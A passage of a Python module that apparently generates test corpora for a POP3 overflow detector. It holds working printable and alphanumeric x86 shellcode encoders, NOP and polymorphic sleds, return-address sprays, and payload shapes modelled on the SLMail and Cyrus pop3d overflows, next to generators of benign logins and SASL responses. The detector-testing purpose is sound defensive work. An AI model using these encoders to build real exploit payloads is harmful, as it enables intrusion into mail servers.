        for term in _printable_terms(rng, (-end) & 0xFFFFFFFF, terms):
            code += b"-" + A.d32(term)
        code += b"P\\"
        for index in range(last - 1, first - 1, -1):
            code += _eax_becomes(rng, dwords[index], dword_plans[index])
            code += b"P" if transit[index] == EAX else bytes((0x50, 0x58 + transit[index], 0x50 + transit[index]))
            code += junk[index]
    assert len(code) == size, (len(code), size)
    filler = bytes(rng.choice(PRINT) for _ in range(4 * len(dwords)))
    return bytes(code) + _landing_pad(rng, pad) + filler + _landing_pad(rng, rng.randint(0, 16))


def _byte_value(rng: random.Random, value: int) -> bytes:
    """Printable code that leaves ``value`` in al: push imm8; pop eax, then SUB/XOR al, imm8."""
    for _ in range(200):
        steps = [rng.choice(["sub", "xor"]) for _ in range(rng.choice([1, 1, 2]))]
        immediates = [rng.choice(PRINT) for _ in steps]
        before = value
        for op, k in zip(reversed(steps), reversed(immediates)):
            before = before ^ k if op == "xor" else (before + k) & 0xFF
        if 0x21 <= before <= 0x7E:
            return b"j" + bytes((before,)) + b"X" + b"".join(
                (b"4" if op == "xor" else b",") + bytes((k,)) for op, k in zip(steps, immediates))
    raise ValueError("no printable way to that byte")


def printable_inplace_bytes(rng: random.Random, payload: bytes, base: int = EAX, before: int = 0) -> bytes:
    """In place, a byte at a time: a pointer register P is set a little before the payload's
    placeholder bytes, each byte is computed in al (push/pop, SUB/XOR with immediates), moved
    to dl or bl when P allows, and XORed or SUBtracted into its placeholder; bytes that are
    printable may be left as they are.  P is moved on every 60 bytes."""
    pointer = rng.choice([r for r in _POINTERS])
    sources = [r for r in (A.AL, A.DL, A.BL) if r != pointer]
    plan = []  # per byte: (store op, source register, placeholder) or None when left as is
    for b in payload:
        if 0x21 <= b <= 0x7E and rng.random() < 0.5:
            plan.append(None)
            continue
        plan.append((rng.choice(["xor", "sub"]), rng.choice(sources), rng.choice(PRINT)))
    init_terms = rng.choice([3, 4])
    rebase_terms = [rng.choice([3, 4]) for _ in range(len(payload) // 60 + 1)]
    # lengths of every piece are fixed by the plan; values are computed in a second pass
    pieces: list[tuple[str, object]] = []
    for index, step in enumerate(plan):
        if index and index % 60 == 0:
            pieces.append(("rebase", rebase_terms[index // 60]))
        if step is not None:
            pieces.append(("byte", index))
    pad = rng.randint(0, 24)
    values: dict[int, bytes] = {}
    # a byte's code has variable length (1-2 arithmetic steps), so draw it before the layout
    for index, step in enumerate(plan):
        if step is None:
            continue
        op, source, placeholder = step
        wanted = payload[index]
        value = placeholder ^ wanted if op == "xor" else (placeholder - wanted) & 0xFF
        code = _byte_value(rng, value)
        if source != A.AL:
            code += bytes((0x50, 0x58 + source))  # push eax; pop edx / ebx (low byte dl / bl)
        values[index] = code
    head = (0 if base == EAX else 2) + 5 * init_terms + 2  # push base; pop eax | subs | push eax; pop P
    size = head + sum(4 + 5 * t for kind, t in pieces if kind == "rebase")
    size += sum(len(values[i]) + 3 for kind, i in pieces if kind == "byte")
    lead = 0x40
    code = bytearray(_copy_base(base, EAX))
    for term in _printable_terms(rng, (-(before + size + pad - lead)) & 0xFFFFFFFF, init_terms):
        code += b"-" + A.d32(term)
    code += b"P" + bytes((0x58 + pointer,))
    for kind, item in pieces:
        if kind == "rebase":
            code += bytes((0x50 + pointer,)) + b"X"
            for term in _printable_terms(rng, (-60) & 0xFFFFFFFF, item):
                code += b"-" + A.d32(term)
            code += b"P" + bytes((0x58 + pointer,))
            continue
        op, source, _ = plan[item]
        code += values[item] + bytes((0x30 if op == "xor" else 0x28, A.modrm(1, source, pointer), lead + item % 60))
    assert len(code) == size, (len(code), size)
    encoded = bytes(b if step is None else step[2] for b, step in zip(payload, plan))
    return bytes(code) + _landing_pad(rng, pad) + encoded + _landing_pad(rng, rng.randint(0, 16))


def printable_inplace_dwords(rng: random.Random, payload: bytes, base: int = EAX, before: int = 0) -> bytes:
    """In place, a dword at a time: each dword is computed in eax (AND, SUB, XOR) and XORed or
    SUBtracted into its placeholder through a pointer register that is moved on as needed."""
    dwords = _dwords(payload)
    pointer = rng.choice(_POINTERS)
    ops = [rng.choice(["xor", "sub"]) for _ in dwords]
    plans = [_eax_plan(rng) for _ in dwords]
    placeholders = [_printable_dword(rng) for _ in dwords]
    per_base = 15  # dwords reachable with printable displacements 0x40..0x7b from one pointer value
    init_terms = rng.choice([3, 4])
    rebase_terms = [rng.choice([3, 4]) for _ in range(len(dwords) // per_base + 1)]
    pad = rng.randint(0, 24)
    size = (0 if base == EAX else 2) + 5 * init_terms + 2
    size += sum(4 + 5 * rebase_terms[i // per_base] for i in range(1, len(dwords)) if i % per_base == 0)
    size += sum(_eax_plan_size(plan) + 3 for plan in plans)
    lead = 0x40
    code = bytearray(_copy_base(base, EAX))
    for term in _printable_terms(rng, (-(before + size + pad - lead)) & 0xFFFFFFFF, init_terms):
        code += b"-" + A.d32(term)
    code += b"P" + bytes((0x58 + pointer,))
    for index, dword in enumerate(dwords):
        if index and index % per_base == 0:
            code += bytes((0x50 + pointer,)) + b"X"
            for term in _printable_terms(rng, (-4 * per_base) & 0xFFFFFFFF, rebase_terms[index // per_base]):
                code += b"-" + A.d32(term)
            code += b"P" + bytes((0x58 + pointer,))
        p = placeholders[index]
        value = p ^ dword if ops[index] == "xor" else (p - dword) & 0xFFFFFFFF
        code += _eax_becomes(rng, value, plans[index])
        code += bytes((0x31 if ops[index] == "xor" else 0x29, A.modrm(1, EAX, pointer), lead + 4 * (index % per_base)))
    assert len(code) == size, (len(code), size)
    encoded = b"".join(A.d32(p) for p in placeholders)
    return bytes(code) + _landing_pad(rng, pad) + encoded + _landing_pad(rng, rng.randint(0, 16))


#: the printable families and the registers an exploit may leave pointing at the code
PRINTABLE_FAMILIES = [printable_stack_builder, printable_inplace_bytes, printable_inplace_dwords]
PRINTABLE_BASES = [EAX, EBX, ECX, EDX, ESI, EDI, EBP, ESP]


# ====================================================================== sleds and sprays

SLED_ONE = bytes([0x90, 0x91, 0x92, 0x93, 0x95, 0x96, 0x97, 0x98, 0x99, 0xF5, 0xF8, 0xF9, 0xFC, 0xFD,
                  0x27, 0x2F, 0x37, 0x3F, 0x9B]) + bytes(r for r in range(0x40, 0x50) if r not in (0x44, 0x4C))
SLED_IMM8 = bytes([0x04, 0x0C, 0x14, 0x1C, 0x24, 0x2C, 0x34, 0x3C, 0xA8]) + bytes(range(0xB0, 0xB8))


def nop_sled(rng: random.Random, length: int) -> bytes:
    return b"\x90" * length


def polymorphic_sled(rng: random.Random, length: int) -> bytes:
    """Single-byte NOP equivalents and two-byte ones whose immediate is itself a NOP
    equivalent, so that a jump to any offset lands on a valid sled."""
    out = bytearray()
    while len(out) < length:
        if rng.random() < 0.35 and len(out) + 2 <= length:
            out += bytes((rng.choice(SLED_IMM8), rng.choice(SLED_ONE)))
        else:
            out.append(rng.choice(SLED_ONE))
    return bytes(out)


def any_sled(rng: random.Random, length: int) -> bytes:
    return (nop_sled if rng.random() < 0.4 else polymorphic_sled)(rng, length)


def return_address(rng: random.Random, bits: int = 32) -> bytes:
    while True:
        if bits == 64:
            value = 0x00007FF000000000 + rng.getrandbits(36)
            raw = struct.pack("<Q", value)
            if not set(raw[:6]) & BAD:
                return raw
            continue
        value = rng.choice([
            lambda: _dll_address(rng),
            lambda: 0xBFFF0000 + rng.getrandbits(16),
            lambda: 0x08040000 + rng.getrandbits(19),
            lambda: 0x5F400000 + rng.getrandbits(20),
        ])()
        raw = A.d32(value)
        if not set(raw) & BAD:
            return raw


# ====================================================================== attack categories


def gen_raw_x86(rng: random.Random) -> bytes:
    return x86_payload(rng)


def _encoded(rng: random.Random, payload: bytes, bad: frozenset[int] = BAD) -> bytes:
    """``payload`` behind a random decoder stub, the whole free of ``bad`` characters."""
    for _ in range(50):
        encoded = rng.choice(X86_ENCODERS)(rng, payload, bad)
        if not set(encoded) & bad:
            return encoded
    raise ValueError("no encoding avoids the bad characters")


def gen_xor_getpc(rng: random.Random) -> bytes:
    return _encoded(rng, x86_payload(rng))


def gen_alnum(rng: random.Random) -> bytes:
    base = rng.choice([EAX, EBX, ECX, EDX, ESI, EDI, EBP])
    return alnum_encode(rng, x86_payload(rng, LINUX_PAYLOADS + WINDOWS_PAYLOADS), base)


def gen_printable(rng: random.Random) -> bytes:
    base = rng.choice([EAX, EBX, ECX, EDX, ESI, EDI, EBP])
    return printable_encode(rng, x86_payload(rng, LINUX_PAYLOADS + WINDOWS_PAYLOADS), base)


def gen_printable_family(rng: random.Random) -> bytes:
    """One of the printable encoder families, with a random base register and payload.

    Half of them come after a landing pad the exploit jumps into: the base register points
    either at the pad (the builder's offsets count it: ``before``) or at the builder itself.
    """
    family = rng.choice(PRINTABLE_FAMILIES)
    payload = x86_payload(rng, LINUX_PAYLOADS + WINDOWS_PAYLOADS)
    base = rng.choice(PRINTABLE_BASES)
    if rng.random() < 0.5:
        return family(rng, payload, base)
    before = rng.random() < 0.5
    # a pad run with the base register pointing at it must leave that register alone
    touched = {0x40 + base, 0x48 + base} | (set(b"'/7?") if base == EAX else set())  # BCD adjusts change al
    pad = bytes(b for b in PAD_BYTES if not before or b not in touched)
    lead = bytes(rng.choice(pad) for _ in range(rng.randint(1, 40)))
    return lead + family(rng, payload, base, len(lead) if before else 0)


def gen_sled(rng: random.Random) -> bytes:
    """A sled with whatever follows it cut off (or a jump): the delivery half alone."""
    sled = any_sled(rng, rng.randint(48, 1024))
    return sled + rng.choice([b"", b"\xeb\x04", return_address(rng), b"\xcc"])


def gen_sled_shellcode(rng: random.Random) -> bytes:
    payload = x86_payload(rng)
    if rng.random() < 0.5:
        payload = _encoded(rng, payload)
    return any_sled(rng, rng.randint(16, 600)) + payload


def gen_ret_spray(rng: random.Random) -> bytes:
    bits = 64 if rng.random() < 0.2 else 32
    return return_address(rng, bits) * rng.randint(6 if bits == 32 else 4, 64)


def gen_slmail(rng: random.Random) -> bytes:
    """SLMail 5.5 PASS overflow shape: 'A' filler, jmp esp address, NOPs, encoded shellcode."""
    filler = b"A" * rng.randint(2600, 2700)
    payload = _encoded(rng, x86_payload(rng, WINDOWS_PAYLOADS))
    body = filler + return_address(rng) + b"\x90" * rng.randint(8, 32) + payload
    total = rng.randint(max(2600, len(body)), 4600)
    return body + b"C" * (total - len(body))


def gen_cyrus(rng: random.Random) -> bytes:
    """Cyrus pop3d USER overflow shape (~570 bytes): sled, shellcode, return addresses."""
    payload = x86_payload(rng, LINUX_PAYLOADS)
    if rng.random() < 0.3 or set(payload) & BAD:
        payload = _encoded(rng, payload)
    rets = return_address(rng) * rng.randint(20, 40)
    sled = any_sled(rng, max(32, rng.randint(560, 580) - len(payload) - len(rets)))
    return sled + payload + rets


def gen_x64(rng: random.Random) -> bytes:
    payload = rng.choice(X64_PAYLOADS)(rng)
    if rng.random() < 0.35:
        payload = x64_xor(rng, payload)
    if rng.random() < 0.3:
        payload = nop_sled(rng, rng.randint(8, 200)) + payload
    return payload


#: category -> (generator, the field the argument arrives in)
ATTACKS: dict[str, tuple[Callable[[random.Random], bytes], str]] = {
    "raw-x86": (gen_raw_x86, "password"),
    "xor-getpc": (gen_xor_getpc, "password"),
    "alnum": (gen_alnum, "username"),
    "printable": (gen_printable, "password"),
    "sled": (gen_sled, "password"),
    "sled+shellcode": (gen_sled_shellcode, "username"),
    "ret-spray": (gen_ret_spray, "password"),
    "slmail": (gen_slmail, "password"),
    "cyrus": (gen_cyrus, "username"),
    "x86-64": (gen_x64, "password"),
    # appended last so that the seeds (and corpora) of the categories above stay as they were
    "printable-family": (gen_printable_family, "password"),
}


def attack_corpus(per_category: int, seed: int = 1) -> dict[str, list[bytes]]:
    """``per_category`` arguments of every attack category, deterministic for ``seed``."""
    corpus = {}
    for index, (name, (make, _)) in enumerate(ATTACKS.items()):
        rng = random.Random(seed * 1000 + index)
        corpus[name] = [make(rng) for _ in range(per_category)]
    return corpus


# ====================================================================== benign arguments

_FIRST = ["anna", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory",
          "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "xavier", "yusuf",
          "zoe", "mohammed", "wei", "hiroshi", "priya", "olga", "jose", "lukas", "fatima", "chen"]
_LAST = ["smith", "mueller", "garcia", "nguyen", "kowalski", "rossi", "dubois", "tanaka", "kim",
         "ivanova", "oconnor", "schmidt", "jensen", "silva", "novak", "haddad", "cohen", "patel"]
_DOMAINS = ["example.com", "example.org", "mail.example.net", "uni-example.edu", "corp.example.co.uk",
            "xn--mnchen-3ya.example", "post.example.de", "example.fr", "mx.example.io"]
_WORDS = ("correct horse battery staple orange river mountain cloud silver garden window paper music "
          "coffee table yellow dragon summer winter autumn spring forest ocean planet rocket pencil "
          "marble castle bridge candle basket ladder mirror violin tiger eagle falcon maple cedar "
          "willow harbor island valley meadow thunder shadow crystal copper velvet cotton quartz "
          "lemon cherry mango peach plum olive pepper ginger honey sugar salt bread butter cheese "
          "train plane boat bicycle engine signal button pocket jacket helmet boots glove scarf").split()
#: letters of several scripts for names (UTF-8 lengths from 1 to 4 bytes)
_SCRIPTS = {
    "latin": "abcdefghijklmnopqrstuvwxyzáéíóúàèäöüßñçøåłżśćęąőű",
    "cyrillic": "абвгдеёжзийклмнопрстуфхцчшщъыьэюя",
    "greek": "αβγδεζηθικλμνξοπρστυφχψω",
    "cjk": "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾萧田董潘袁蔡蒋余于杜叶程魏苏吕丁任沈",
    "kana": "あいうえおかきくけこさしすせそたちつてとなにぬねのはひふへほまみむめもやゆよらりるれろわをん",
    "hangul": "김이박최정강조윤장임한오서신권황안송전홍유고문양손배백허남심노하곽성차주우구민진나",
    "arabic": "ابتثجحخدذرزسشصضطظعغفقكلمنهوي",
    "hebrew": "אבגדהוזחטיכלמנסעפצקרשת",
    "devanagari": "अआइईउऊएऐओऔकखगघचछजझटठडढणतथदधनपफबभमयरलवशषसह",
    "thai": "กขคฆงจฉชซฌญฎฏฐฑฒณดตถทธนบปผฝพฟภมยรลวศษสหฬอฮ",
    "georgian": "აბგდევზთიკლმნოპჟრსტუფქღყშჩცძწჭხჯჰ",
    "emoji": "😀😃😄😁😆😅🙂🙃😉😊😇🥰😍🤩😘",
}


def _email(rng: random.Random) -> bytes:
    local = rng.choice(_FIRST) + rng.choice(["", ".", "_", "-"]) + rng.choice(_LAST)
    if rng.random() < 0.3:
        local += str(rng.randint(1, 9999))
    if rng.random() < 0.15:
        local += "+" + rng.choice(["pop", "mail", "lists", "shop", "work"])
    return f"{local}@{rng.choice(_DOMAINS)}".encode()


def _utf8_name(rng: random.Random) -> bytes:
    letters = _SCRIPTS[rng.choice(list(_SCRIPTS))]
    words = ["".join(rng.choice(letters) for _ in range(rng.randint(2, 9))) for _ in range(rng.randint(1, 4))]
    name = " ".join(words)
    if rng.random() < 0.3:
        name = name.replace(" ", ".") + "@" + rng.choice(_DOMAINS)
    return name.encode("utf-8")


def _password(rng: random.Random, low: int, high: int) -> bytes:
    alphabet = bytes(range(0x20, 0x7F))
    return bytes(rng.choice(alphabet) for _ in range(rng.randint(low, high)))


def _passphrase(rng: random.Random) -> bytes:
    words = [rng.choice(_WORDS) for _ in range(rng.randint(4, 10))]
    if rng.random() < 0.3:
        words = [w.capitalize() for w in words]
    phrase = rng.choice([" ", "-", ".", "_", ""]).join(words)
    if rng.random() < 0.4:
        phrase += str(rng.randint(0, 9999)) + rng.choice(["", "!", "?", "#", "$"])
    return phrase.encode()


#: more word lists for passphrases: other languages (ASCII spellings), short diceware-like
#: words, and syllables that make pronounceable made-up words
_WORD_LISTS = [
    _WORDS,
    ("haus baum wasser feuer stein wolke sonne mond stern apfel birne kirsche brot kaese milch "
     "zucker fenster tuer garten strasse bruecke schiff zug vogel katze hund pferd fisch wald").split(),
    ("maison arbre soleil lune etoile pomme fromage pain beurre jardin fenetre porte chemin "
     "riviere montagne nuage pluie neige vent fleur oiseau chat chien cheval poisson foret").split(),
    ("casa arbol agua fuego piedra nube sol luna estrella manzana queso pan jardin ventana "
     "puerta camino rio montana lluvia nieve viento flor pajaro gato perro caballo bosque").split(),
    "ab ace act add age aid aim air all and ant ape arc arm art ash ask axe bad bag ban bar bat bay bed bee".split(),
]
_SYLLABLES = "ka ri mo te lu sa ne vo pi da go fu zen tor mil bar quo xy wen dra".split()
_SEPARATORS = [" ", "-", ".", "_", "", ",", "+", "/", "~", ":", ";", "*"]


def _phrase_word(rng: random.Random, words: list[str]) -> str:
    if rng.random() < 0.15:
        return "".join(rng.choice(_SYLLABLES) for _ in range(rng.randint(2, 4)))
    word = rng.choice(words)
    style = rng.random()
    if style < 0.15:
        word = word.capitalize()
    elif style < 0.2:
        word = word.upper()
    if rng.random() < 0.2:
        word += str(rng.randint(0, 999))
    if rng.random() < 0.05:
        word += rng.choice("!?#$%&@^")
    return word


def passphrase(rng: random.Random, low: int = 8, high: int = 2000) -> bytes:
    """A passphrase of ``low`` to ``high`` octets: words of one list (or made up), digits and
    punctuation, joined by one separator (or alternating two), cut to the length."""
    bands = [(max(low, a), min(high, b), weight) for a, b, weight in ((8, 40, 3), (40, 200, 4), (200, 2000, 3))]
    bands = [band for band in bands if band[0] <= band[1]]
    lo, hi, _ = rng.choices(bands, weights=[band[2] for band in bands])[0]
    length = rng.randint(lo, hi)
    words = rng.choice(_WORD_LISTS)
    separators = rng.sample(_SEPARATORS, rng.choice([1, 1, 1, 2]))
    out = _phrase_word(rng, words)
    while len(out) < length:
        out += rng.choice(separators) + _phrase_word(rng, words)
    return out[:length].encode()


def dotted_plain_response(rng: random.Random, size: int = 400) -> bytes:
    """The decoded AUTH PLAIN response the evaluation flagged: NUL, a user name, NUL, and
    lower-case words and digits joined by dots (``maple.river42.stone.quiet...``)."""
    user = rng.choice(_FIRST).encode()
    words = []
    while sum(len(w) + 1 for w in words) < size:
        word = rng.choice(_WORDS)
        words.append(word + (str(rng.randint(0, 99)) if rng.random() < 0.3 else ""))
    secret = ".".join(words).encode()[:size - len(user) - 2]
    return b"\0" + user + b"\0" + secret


#: what the protocol layer keeps of an over-long line for analysis (pop3shield.core.framing.WINDOW)
LINE_WINDOW = 2048


def overlong_arguments(line: bytes) -> list[tuple[bytes, str]]:
    """The arguments the protocol layer hands the detector for an over-long line, mirroring
    ``Session._overlong_arguments``: the head after the keyword and the tail, typed by the
    keyword's first field (AUTH: ``mechanism``)."""
    head, tail = line[:LINE_WINDOW], line[-LINE_WINDOW:]
    keyword, _, rest = head.partition(b" ")
    field = {b"USER": "username", b"PASS": "password", b"APOP": "username", b"AUTH": "mechanism"}.get(keyword.upper(), "text")
    return [(rest or head, field), (tail, field)]


def _passphrase_lines(rng: random.Random) -> Iterator[tuple[bytes, str]]:
    """Over-long PASS and AUTH PLAIN lines with a passphrase, as the detector receives them."""
    if rng.random() < 0.5:
        line = b"PASS " + passphrase(rng, 260, 2000)
    else:
        if rng.random() < 0.5:
            decoded = dotted_plain_response(rng, rng.randint(200, 1400))
        else:
            decoded = b"\0" + _email(rng) + b"\0" + passphrase(rng, 200, 1400)
        line = b"AUTH PLAIN " + base64.b64encode(decoded)
    yield from overlong_arguments(line)


def _latin1_password(rng: random.Random) -> bytes:
    word = rng.choice(["passwort", "geheim", "schlüssel", "mot de passe", "contraseña", "größe",
                       "señor", "élève", "fröhlich", "smörgåsbord", "café crème", "übermäßig"])
    return (word + str(rng.randint(0, 999))).encode("latin-1")


def _ntlm_negotiate(rng: random.Random) -> bytes:
    flags = struct.pack("<I", rng.choice([0xE2088297, 0xA2088207, 0x62088215]))
    return b"NTLMSSP\x00" + struct.pack("<I", 1) + flags + bytes(16) + bytes((6, 1, 0xB1, 0x1D, 0, 0, 0, 0x0F))


def _ntlm_authenticate(rng: random.Random) -> bytes:
    domain = rng.choice(["EXAMPLE", "CORP", "WORKGROUP"]).encode("utf-16-le")
    user = rng.choice(_FIRST).encode("utf-16-le")
    host = rng.choice(["LAPTOP-7", "DESKTOP-AB12", "WS042"]).encode("utf-16-le")
    lm = rng.randbytes(24)
    nt = rng.randbytes(16) + b"\x01\x01\x00\x00\x00\x00\x00\x00" + rng.randbytes(8) + rng.randbytes(8)
    nt += bytes(4) + rng.randbytes(rng.randint(40, 200)) + bytes(4)
    session = rng.randbytes(16)
    offset = 88
    fields = []
    blobs = b""
    for blob in (lm, nt, domain, user, host, session):
        fields.append(struct.pack("<HHI", len(blob), len(blob), offset + len(blobs)))
        blobs += blob
    header = b"NTLMSSP\x00" + struct.pack("<I", 3) + b"".join(fields) + struct.pack("<I", 0xE2888215)
    header += bytes((10, 0, 0x61, 0x4A, 0, 0, 0, 0x0F)) + rng.randbytes(16)
    return header + blobs


def _der(tag: int, body: bytes) -> bytes:
    n = len(body)
    if n < 0x80:
        return bytes((tag, n)) + body
    length = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes((tag, 0x80 | len(length))) + length + body


def _kerberos_ap_req(rng: random.Random) -> bytes:
    """A GSSAPI initial token shaped like a Kerberos AP-REQ: DER around random ciphertext."""
    realm = rng.choice([b"EXAMPLE.COM", b"CORP.EXAMPLE.ORG", b"AD.EXAMPLE.NET"])
    ticket = _der(0x61, _der(0x30, _der(0xA0, _der(0x02, b"\x05")) + _der(0xA1, _der(0x1B, realm))
                             + _der(0xA3, _der(0x30, _der(0xA0, _der(0x02, b"\x12")) + _der(0xA2, _der(0x04, rng.randbytes(rng.randint(200, 1100))))))))
    authenticator = _der(0xA4, _der(0x30, _der(0xA0, _der(0x02, b"\x12")) + _der(0xA2, _der(0x04, rng.randbytes(rng.randint(60, 200))))))
    ap_req = _der(0x6E, _der(0x30, _der(0xA0, _der(0x02, b"\x05")) + _der(0xA1, _der(0x02, b"\x0e")) + _der(0xA3, ticket) + authenticator))
    return _der(0x60, b"\x06\x09\x2a\x86\x48\x86\xf7\x12\x01\x02\x02" + b"\x01\x00" + ap_req)


def _sasl_message(rng: random.Random) -> bytes:
    """A decoded SASL client response of a common mechanism."""
    user = _email(rng).decode() if rng.random() < 0.5 else rng.choice(_FIRST)
    secret = _password(rng, 8, 40).decode()
    kind = rng.choice(["plain", "cram", "digest", "scram1", "scram2", "xoauth2", "oauthbearer", "ntlm1", "ntlm3", "gssapi", "login"])
    if kind == "plain":
        return f"\0{user}\0{secret}".encode()
    if kind == "login":
        return rng.choice([user, secret]).encode()
    if kind == "cram":
        return f"{user} {hashlib.md5(rng.randbytes(16)).hexdigest()}".encode()
    if kind == "digest":
        nonce = base64.b64encode(rng.randbytes(24)).decode()
        return (f'username="{user}",realm="mail.example.com",nonce="{nonce}",cnonce="{rng.randbytes(12).hex()}",'
                f'nc=00000001,qop=auth,digest-uri="pop/mail.example.com",response={rng.randbytes(16).hex()},charset=utf-8').encode()
    if kind == "scram1":
        return f"n,,n={user},r={base64.b64encode(rng.randbytes(18)).decode()}".encode()
    if kind == "scram2":
        nonce = base64.b64encode(rng.randbytes(36)).decode()
        return f"c=biws,r={nonce},p={base64.b64encode(rng.randbytes(32)).decode()}".encode()
    if kind == "xoauth2":
        token = base64.urlsafe_b64encode(rng.randbytes(rng.randint(90, 300))).decode()
        return f"user={user}\x01auth=Bearer {token}\x01\x01".encode()
    if kind == "oauthbearer":
        token = base64.urlsafe_b64encode(rng.randbytes(rng.randint(90, 300))).decode()
        return f"n,a={user},\x01host=mail.example.com\x01port=995\x01auth=Bearer {token}\x01\x01".encode()
    if kind == "ntlm1":
        return _ntlm_negotiate(rng)
    if kind == "ntlm3":
        return _ntlm_authenticate(rng)
    return _kerberos_ap_req(rng)


def sasl_fields(decoded: bytes) -> list[bytes]:
    """A decoded SASL response the way the server hands it to the detector: split on NUL."""
    return [part for part in decoded.split(b"\x00") if part]


#: benign category -> (count in the full corpus, generator of (argument, field) pairs)
def _benign_makers() -> dict[str, tuple[int, Callable[[random.Random], Iterator[tuple[bytes, str]]]]]:
    def one(make: Callable[[random.Random], bytes], field: str) -> Callable[[random.Random], Iterator[tuple[bytes, str]]]:
        def produce(rng: random.Random) -> Iterator[tuple[bytes, str]]:
            yield make(rng), field
        return produce

    def sasl_encoded(rng: random.Random) -> Iterator[tuple[bytes, str]]:
        yield base64.b64encode(_sasl_message(rng)), "text"

    def sasl_decoded(rng: random.Random) -> Iterator[tuple[bytes, str]]:
        for part in sasl_fields(_sasl_message(rng)):
            yield part, "sasl"

    def passphrase_sasl(rng: random.Random) -> Iterator[tuple[bytes, str]]:
        """AUTH PLAIN (split on NUL) and AUTH LOGIN responses with a passphrase, decoded."""
        if rng.random() < 0.3:
            decoded = dotted_plain_response(rng, rng.randint(100, 1400))
        else:
            decoded = b"\0" + _email(rng) + b"\0" + passphrase(rng)
        for part in sasl_fields(decoded):
            yield part, "sasl"

    return {
        "email": (1500, one(_email, "username")),
        "utf8-name": (1500, one(_utf8_name, "username")),
        "password": (10000, one(lambda r: _password(r, 8, 64), "password")),
        "long-password": (2000, one(lambda r: _password(r, 40, 200), "password")),
        "passphrase": (2000, one(_passphrase, "password")),
        "latin1-password": (300, one(_latin1_password, "password")),
        "sasl-base64": (1500, sasl_encoded),
        "sasl-decoded": (1500, sasl_decoded),
        "number": (800, one(lambda r: str(r.randint(1, 10 ** r.randint(1, 6))).encode(), "number")),
        "digest": (800, one(lambda r: (hashlib.md5(r.randbytes(8)).hexdigest().upper() if r.random() < 0.2 else hashlib.md5(r.randbytes(8)).hexdigest()).encode(), "digest")),
        "mechanism": (200, one(lambda r: r.choice([b"PLAIN", b"LOGIN", b"CRAM-MD5", b"DIGEST-MD5", b"SCRAM-SHA-1", b"SCRAM-SHA-256", b"XOAUTH2", b"OAUTHBEARER", b"GSSAPI", b"NTLM"]), "mechanism")),
        # appended last so that the seeds (and corpora) of the categories above stay as they were
        "passphrase-pass": (2000, one(passphrase, "password")),
        "passphrase-sasl": (1000, passphrase_sasl),
        "passphrase-overlong": (1000, _passphrase_lines),
    }


BENIGN_COUNTS = {name: count for name, (count, _) in _benign_makers().items()}


def benign_corpus(scale: float = 1.0, seed: int = 7) -> dict[str, list[tuple[bytes, str]]]:
    """Benign (argument, field) pairs per category; ``scale`` shrinks every count (tests)."""
    corpus: dict[str, list[tuple[bytes, str]]] = {}
    for index, (name, (count, make)) in enumerate(_benign_makers().items()):
        rng = random.Random(seed * 1000 + index)
        items: list[tuple[bytes, str]] = []
        for _ in range(max(1, round(count * scale))):
            items.extend(make(rng))
        corpus[name] = items
    return corpus
